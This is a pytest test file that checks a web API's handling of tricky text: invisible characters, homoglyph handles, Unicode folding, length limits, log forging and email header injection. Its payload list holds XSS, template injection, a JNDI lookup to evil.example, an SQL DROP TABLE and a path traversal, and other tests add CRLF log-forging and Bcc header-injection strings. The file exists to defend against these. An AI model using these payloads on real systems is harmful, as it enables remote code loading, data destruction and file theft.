"""4.E, text that is not what it looks like: refused, or kept as what it is, alike on both databases."""

import json
import unicodedata

import pytest
import structlog

from app.clients import service as clients
from app.serving import log

USER = "urn:ietf:params:scim:schemas:core:2.0:User"

INVISIBLE = {
    "zero width": "\u200b", "word joiner": "\u2060", "right-to-left override": "\u202e", "left-to-right isolate": "\u2066",
    "soft hyphen": "\u00ad", "tag": "\U000e0041", "line separator": "\u2028", "byte order mark": "\ufeff", "bell": "\x07",
    "escape": "\x1b", "delete": "\x7f", "next line": "\x85", "private use": "\ue000", "no character": "\uffff",
}  # fmt: skip
SCRIPTS = (
    "<script>alert(1)</script>",
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "'; DROP TABLE account; --",
    "%s%n%x",
    "=1+1",
    "../../etc/passwd",
)


def doors(text):
    """Every kind of text that a caller may write: who writes it, where, and the body with it."""
    return (
        ("boss", "/v1/business-units", {"key": "spain", "name": text}),
        ("boss", "/v1/courses", {"key": "basics", "title": text}),
        ("boss", "/v1/policies", {"key": "care", "title": text, "scope": {"kind": "enterprise"}}),
        ("boss", "/v1/freezes", {"scope": {"kind": "enterprise"}, "severity": "L1", "reason": text}),
        ("developer", "/v1/publishing-tools", {"key": "fanfare", "name": text}),
        ("liaison", "/v1/accounts", {"network": "x", "handle": "acme", "business_unit_id": "sales", "purpose": text}),
        ("liaison", "/v1/accounts", {"network": "x", "handle": text, "business_unit_id": "sales"}),
    )


def test_E02_what_cannot_be_seen_is_refused_wherever_somebody_writes(team):
    """Two texts that look alike and differ are the beginning of every deceit; so is one that reads the other way round."""
    bearers = {who: team.token(who) for who, *_ in doors("")}
    before = team.intact()
    for what, mark in INVISIBLE.items():
        for who, path, body in doors(f"ac{mark}me"):
            answer = team.call("POST", path, body=body, bearer=bearers[who])
            assert (answer.status_code, answer.json()["code"]) == (422, "validation"), (what, path, answer.text)
            assert mark not in answer.text, (what, path)
    assert team.intact() == before


@pytest.mark.parametrize("handle", ["\u0430cme", "\u0410\u0421\u041c\u0415", "a\u0441m\u0435"])
def test_E01_a_look_alike_of_another_script_is_taken_and_flagged(team, handle):
    """Cyrillic letters make another handle, and whoever decides is told what it looks like (UTS 39)."""
    first = team.account("acme")
    made = team.post("/v1/accounts", "liaison", {"network": "x", "handle": handle, "business_unit_id": "sales"}, 201)
    assert made["look_alike_of"] == first and "look_alike" in {one["flag"] for one in made["flags"]}
    told = team.want(200, "GET", "/v1/accounts/verify", params={"url": f"https://x.com/{handle}"})
    assert told["status"] == "unregistered"


def test_E03_one_name_in_four_spellings_is_one_name(team):
    """What is composed is kept composed (NFC); what is one name by NFKC and case is taken once."""
    name = "Zo\u00eb & Fran\u00e7ois"
    for n, form in enumerate(("NFC", "NFD")):
        made = team.post(
            "/v1/business-units", "boss", {"key": f"unit-{n}", "name": unicodedata.normalize(form, name)}, 201
        )
        assert made["name"] == name
        found = team.get("/v1/business-units", "boss", params={"name": unicodedata.normalize(form, name)})["items"]
        assert len(found) == n + 1
    assert team.get(f"/v1/business-units/{made['id']}", "boss")["name"] == name


@pytest.mark.parametrize(
    "pair",
    [("straße", "STRASSE"), ("\u212aelvin", "kelvin"), ("\u017fales2", "sales2"), ("ﬁnance", "FINANCE"), ("Ⅳ", "iv")],
)
def test_E04_letters_that_fold_into_each_other_name_one_department(team, pair):
    """German sharp s, the Kelvin sign, the long s, a ligature: HR's spelling of a unit finds the unit, and makes no second."""
    first = team.hire("one", pair[0])
    second = team.hire("two", pair[1])
    units = {team.get(f"/v1/employees/{id_}", "boss")["business_unit_id"] for id_ in (first, second)}
    assert len(units) == 1


def test_E04_a_dotless_i_is_another_letter(team):
    """Turkish rules are no rules here: what folds is the same for everybody, whatever the machine's language."""
    ids = [team.hire(number, name) for number, name in (("one", "Ir\u0131s"), ("two", "Iris"))]
    assert len({team.get(f"/v1/employees/{id_}", "boss")["business_unit_id"] for id_ in ids}) == 2


@pytest.mark.parametrize(
    "text",
    [
        "\U0001f600" * 50,
        "\U0001f469\u200d\U0001f680" * 5,
        "e" + "\u0301" * 100,
        "\u4e2d\u6587" * 50,
        "\u0645\u0631\u062d\u0628\u0627",
    ],
)
def test_E07_what_is_long_in_bytes_and_short_in_characters_is_kept_whole(team, text):
    """The limit counts characters; four bytes each, joined emoji and stacked marks are kept as they came."""
    account = team.account("acme")
    asked = team.ask("asker", account, justification=text)
    assert asked["justification"] == unicodedata.normalize("NFC", text)
    assert team.get(f"/v1/rights-requests/{asked['id']}", "asker")["justification"] == asked["justification"]


@pytest.mark.parametrize(
    "text", ["x" * 4001, "x" * 65_536, "e" + "\u0301" * 400_000, "\U0001f600" * 65_536, " " * 200_000 + "x" * 5000]
)
def test_E07_what_is_too_long_is_refused_by_its_length(team, text):
    for who, path, body in doors(text):
        told = team.post(path, who, body, 422)
        assert len(json.dumps(told)) < 3000, "what was sent is not sent back"


@pytest.mark.parametrize("text", SCRIPTS)
def test_E08_what_would_run_elsewhere_is_text_here(team, text):
    """Kept as it was written, told as JSON that no browser takes for a page, and in no log line."""
    account = team.account("acme")
    asked = team.ask("asker", account, justification=text)
    assert asked["justification"] == text
    team.post("/v1/business-units", "boss", {"key": "spain", "name": text}, 201)
    answer = team.call("GET", "/v1/business-units/spain", "boss")
    assert answer.json()["name"] == text and answer.headers["content-type"] == "application/json"
    assert team.get("/v1/business-units", "boss", params={"name": text})["items"][0]["key"] == "spain"


def test_E08_nobody_writes_a_log_line_of_their_own(team, capsys):
    """A line of the log is one JSON object; what a caller names it stays inside a text, or outside the log."""
    forged = 'x\r\n{"event": "request", "actor": "employee:forged"}'
    usual = structlog.get_config()
    log("INFO")
    try:
        structlog.configure(cache_logger_on_first_use=False)
        team.ask("asker", team.account("acme"), justification=forged)
        team.call("GET", "/v1/x%0d%0aforged", "asker", headers={"User-Agent": "forged", "X-Request-ID": "forged\tline"})
        team.call("GET", "/v1/accounts", "asker", params={"handle": forged})
        team.call("POST", "/v1/rights-requests", "asker", content=b'{"a": 1', headers={"Content-Type": "forged"})
    finally:
        structlog.configure(**usual)
    lines = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    assert len([one for one in lines if one["event"] == "request"]) >= 4
    assert "forged" not in json.dumps(lines)


@pytest.mark.parametrize("mail", ['"a b"@x', "a@[127.0.0.1]", "a@b@c", "\u00fc@ex\u00e4mple.example", "@"])
def test_E09_an_address_is_hrs_word_whatever_its_form(team, mail):
    """HR's word is not blocked for it (domain.md 7): it is kept, and no mail is made of it; see tests/notices."""
    team.hire("odd", email=mail)
    assert team.get(f"/v1/employees/{team.ids['odd']}", "admin")["email"] == mail
    assert team.get("/v1/employees", "admin", params={"email": mail})["items"]


@pytest.mark.parametrize(
    "mail", ["a\u202eb@x.example", "a@x.example\r\nBcc: b@y.example", "a\u200bb@x.example", "a" * 400 + "@x.example"]
)
def test_E09_an_address_with_what_cannot_be_seen_is_refused(team, mail):
    """It could be made into a header of a mail, or be taken for another's."""
    with team.work() as work:
        bearer = clients.create_client(work, "HR", ["hr"], static=True).bearer
    person = {"schemas": [USER], "userName": "odd", "emails": [{"value": mail, "type": "work"}]}
    refused = team.call("POST", "/scim/v2/Users", None, person, bearer=bearer)
    assert (refused.status_code, refused.json()["scimType"]) == (400, "invalidValue")
    assert team.get("/v1/employees", "admin", params={"user_name": "odd"})["items"] == []
